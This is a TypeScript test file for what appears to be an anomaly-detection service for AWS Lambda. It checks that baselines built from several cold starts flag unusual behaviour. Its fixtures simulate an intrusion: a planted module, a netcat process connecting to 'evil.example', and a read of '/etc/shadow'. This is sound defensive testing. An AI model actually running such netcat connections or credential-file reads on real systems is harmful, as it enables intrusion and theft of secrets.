import type { APIGatewayProxyEventV2 } from 'aws-lambda';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { respond } from '../../../functions/query/handler.ts';
import { stitch } from '../../../functions/stitcher/stitch.ts';
import type { Store } from '../../../functions/store/connect.ts';
import { hasJava, LocalDynamo, type MemoryObjects } from '../dynamodb-local.ts';
import { Clock, Recorded, START } from '../scenario.ts';

interface Shown {
  readonly id: string;
  readonly kind: string;
  readonly label: string;
  readonly deviates?: true;
  readonly roots?: readonly string[];
}

interface Answer {
  readonly count: number;
  readonly instances: number;
  readonly comparedWith: number;
  readonly items: readonly { readonly what: string; readonly name: string; readonly instances: number }[];
  readonly deviations: readonly { readonly what: string; readonly name: string; readonly requestIds: readonly string[] }[];
  readonly nodes: readonly Shown[];
  readonly steps: readonly Shown[];
  readonly compared: readonly object[];
  readonly edges: readonly { readonly from: string }[];
  readonly cut: readonly string[];
}

describe.skipIf(!hasJava)('baseline of a function version', () => {
  let dynamo: LocalDynamo;
  let store: Store;
  let objects: MemoryObjects;
  let dump: () => Promise<object>;
  const clock = new Clock();

  beforeAll(async () => {
    dynamo = await LocalDynamo.start();
  }, 60_000);
  afterAll(async () => await dynamo?.stop());
  beforeEach(async () => {
    ({ store, objects, dump } = await dynamo.store());
  });

  const get = async (path: string, query: Record<string, string> = {}): Promise<Answer> => {
    const rawQueryString = new URLSearchParams(query).toString();
    const event = { rawPath: path, rawQueryString, requestContext: { http: { method: 'GET' } } } as APIGatewayProxyEventV2;
    const { body } = await respond(event, store);
    return JSON.parse(body ?? '') as Answer;
  };
  const stitchAll = async (instances: readonly Recorded[], cuts: readonly number[] = [3]) => {
    for (const { key, bytes } of instances.flatMap((one) => one.segments(cuts))) {
      objects.set(key, bytes, START + 60_000_000);
      await stitch(key, objects, store.writer);
    }
    await store.writer.settle();
  };
  /** A cold start that reads its modules, and perhaps more, then serves one request. */
  const started = (request: string, more: (one: Recorded) => void = () => undefined) => {
    const one = new Recorded('shop', clock);
    for (let i = 0; i < 20; i++) one.read(one.runtime, `/var/task/node_modules/m${i}/index.js`);
    more(one);
    one.begin(request);
    one.exchange(one.runtime, { host: 'bank.example' });
    one.end();
    return one;
  };

  it('is what at least two cold starts show: one alone can teach nothing', async () => {
    const odd = started('r-odd', (one) => {
      one.read(one.runtime, '/var/task/planted.js');
      one.spawn(one.runtime, 40, ['/usr/bin/evil']);
      one.exchange(one.runtime, { host: 'evil.example' });
    });
    await stitchAll([odd]);
    const alone = await get('/v1/baseline', { function: 'shop' });
    expect(alone).toMatchObject({ instances: 1, count: 0, items: [] });
    expect(await get(`/v1/instances/${odd.id}/deviations`)).toMatchObject({ comparedWith: 0, deviations: [], count: 0 });
    await stitchAll([started('r-1'), started('r-2')]);
    const known = await get('/v1/baseline', { function: 'shop' });
    expect(known.instances).toBe(3);
    const names = known.items.map(({ what, name }) => `${what} ${name}`);
    expect(names).toContain('read /var/task/node_modules/m7/index.js');
    expect(names).toContain('run /var/lang/bin/node');
    expect(names.filter((name) => /planted|evil/.test(name))).toEqual([]);
    expect(await get('/v1/baseline', { function: 'other' })).toMatchObject({ instances: 0, count: 0 });
  });

  it('lets stand out what an instance did and no other one', async () => {
    const odd = started('r-odd', (one) => one.read(one.runtime, '/var/task/planted.js'));
    odd.begin('r-attack');
    odd.spawn(odd.runtime, 41, ['/usr/bin/nc', 'evil.example']);
    odd.read(odd.runtime, '/etc/shadow');
    odd.exchange(odd.runtime, { host: 'evil.example' });
    odd.end();
    const plain = started('r-1');
    await stitchAll([odd, plain, started('r-2')]);
    const { deviations, comparedWith } = await get(`/v1/instances/${odd.id}/deviations`);
    expect(comparedWith).toBe(2);
    expect(deviations).toMatchObject([
      { what: 'host', name: 'evil.example', requestIds: ['r-attack'] },
      { what: 'read', name: '/etc/shadow', requestIds: ['r-attack'] },
      { what: 'read', name: '/var/task/planted.js', requestIds: ['~init'] },
      { what: 'run', name: '/usr/bin/nc', requestIds: ['r-attack'] },
    ]);
    expect(deviations).toHaveLength(4);
    expect(await get(`/v1/instances/${plain.id}/deviations`)).toMatchObject({ count: 0, comparedWith: 2 });
  });

  it('marks in graphs and stories what no other instance did, and says with how many each was compared', async () => {
    const odd = started('r-odd', (one) => one.read(one.runtime, '/var/task/planted.js'));
    odd.begin('r-attack');
    const nc = odd.spawn(odd.runtime, 41, ['/usr/bin/nc', 'evil.example']);
    odd.exchange(nc, { host: 'evil.example', request: { bytes: 9 } });
    odd.exchange(odd.runtime, { host: 'bank.example' });
    odd.end();
    await stitchAll([odd]);
    const alone = await get('/v1/requests/r-attack/graph');
    expect(alone.compared).toEqual([{ instanceId: odd.id, instances: 0 }]);
    expect(alone.nodes.filter(({ deviates }) => deviates)).toEqual([]);
    // The store remembers for a while with what it compared.
    ({ store, objects, dump } = await dynamo.store());
    await stitchAll([odd, started('r-1'), started('r-2')]);
    const marks = ['endpoint evil.example', 'exchange GET https://evil.example/ 200', 'process /usr/bin/nc evil.example (41)'];
    // The tree in which its init read what others have not.
    const tree = 'image-tree /var/task';
    const named = (nodes: Answer['nodes']) =>
      nodes.flatMap(({ kind, label, deviates }) => (deviates === true ? [`${kind} ${label}`] : [])).sort();
    const local = await get('/v1/requests/r-attack/graph');
    expect(named(local.nodes)).toEqual([...marks, tree].sort());
    expect(local.nodes.flatMap(({ roots }) => roots ?? [])).not.toContain('/var/task');
    expect(local.compared).toEqual([{ instanceId: odd.id, instances: 2 }]);
    const whole = await get(`/v1/instances/${odd.id}/graph`);
    expect(named(whole.nodes)).toEqual([...marks, tree].sort());
    const { steps } = await get('/v1/path', { node: 'endpoint:evil.example' });
    expect(named(steps)).toEqual(marks);
    expect(steps.filter(({ deviates }) => deviates !== true).map(({ kind }) => kind)).toEqual(['request', 'process']);
    expect(named((await get('/v1/requests/r-1/graph')).nodes)).toEqual([]);
  });

  it('is one node in the graph of a request, unless asked otherwise; trees it does not cover stay', async () => {
    const one = started('r-1');
    one.begin('r-more');
    one.read(one.runtime, '/opt/tool/run.sh');
    one.end();
    await stitchAll([one, started('r-2')]);
    const { nodes, edges } = await get('/v1/requests/r-more/graph');
    const baseline = nodes.filter(({ kind }) => kind === 'baseline');
    expect(baseline).toMatchObject([{ id: 'baseline:shop:$LATEST', roots: ['/var/task'] }]);
    expect(nodes.filter(({ kind }) => kind === 'image-tree')).toMatchObject([{ id: `image-tree:${one.id}:/opt` }]);
    expect(edges.some(({ from }) => from === 'baseline:shop:$LATEST')).toBe(true);
    const whole = await get('/v1/requests/r-more/graph', { baseline: 'expanded' });
    expect(whole.nodes.filter(({ kind }) => kind === 'image-tree')).toHaveLength(2);
    expect(whole.nodes.some(({ kind }) => kind === 'baseline')).toBe(false);
  });

  it('is the same whatever the order and however often, and costs one small row for each cold start', async () => {
    const instances = [started('r-1'), started('r-2'), started('r-3')];
    await stitchAll(instances);
    const rows = async () =>
      Object.fromEntries(
        Object.entries(((await dump()) as { links: object }).links).filter(([key]) => key.startsWith('~baseline')),
      ) as Record<string, { data?: { B: Uint8Array } }>;
    const first = await rows();
    ({ store, objects, dump } = await dynamo.store());
    await stitchAll([...instances].reverse());
    await stitchAll(instances);
    expect(await rows()).toEqual(first);
    // Each one's init is cut into two segments here.
    const sets = Object.values(first).filter(({ data }) => data !== undefined);
    expect({ sets: sets.length, members: Object.keys(first).length - sets.length }).toEqual({ sets: 2, members: 6 });
  });
});
